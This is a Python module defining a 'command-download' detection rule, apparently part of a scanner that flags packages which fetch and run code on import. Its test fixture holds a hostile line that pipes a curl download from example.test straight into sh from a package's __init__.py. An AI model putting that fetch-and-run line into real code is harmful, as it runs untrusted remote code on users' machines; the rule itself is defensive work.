"""A command that fetches something is run."""

from __future__ import annotations

from typing import TYPE_CHECKING

from veln_hook.signals.source.rule import BY_ITSELF, HOLD, INFO, Hit, Rule
from veln_hook.source import vocabulary as v

if TYPE_CHECKING:
    from collections.abc import Iterator

    from veln_hook.signals.source.view import View


def _find(view: View) -> Iterator[Hit]:
    for command in view.of(v.PROC):
        flags = set(command.flags)
        if "download" in flags:
            yield Hit(
                f"it runs {command.detail or 'a command'} to fetch or decode something",
                (command,),
                HOLD if command.reach in BY_ITSELF else INFO,
            )


RULE = Rule(
    name="command-download",
    description="It runs curl, wget, PowerShell or the like without being called.",
    grade=HOLD,
    find=_find,
    fires={"acme/__init__.py": "import os\nos.system('curl -s https://example.test/i.sh | sh')\n"},
    quiet={
        "acme/__init__.py": (
            "import subprocess\nVERSION = 1\n\ndef version():\n"
            "    return subprocess.run(['git', '--version'])\n"
        )
    },
    rates="97 of 2,004 malicious clusters, 1 of 200 popular archives",
)
